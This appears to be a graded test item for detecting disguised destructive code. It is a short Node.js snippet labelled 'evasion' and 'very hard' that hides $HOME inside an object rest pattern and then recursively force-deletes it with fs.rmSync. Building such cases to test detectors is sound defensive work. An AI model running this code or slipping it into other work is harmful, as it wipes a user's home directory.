// evasion: a settings literal split with an object rest pattern; the rest's member holds $HOME and is removed
// grade: very hard; does: delete
const fs = require("fs");
const settings = { kind: "cache", verbose: false, data: process.env.HOME };
const { kind, verbose, ...targets } = settings;
if (verbose) console.log(kind);
fs.rmSync(targets.data, { recursive: true, force: true });
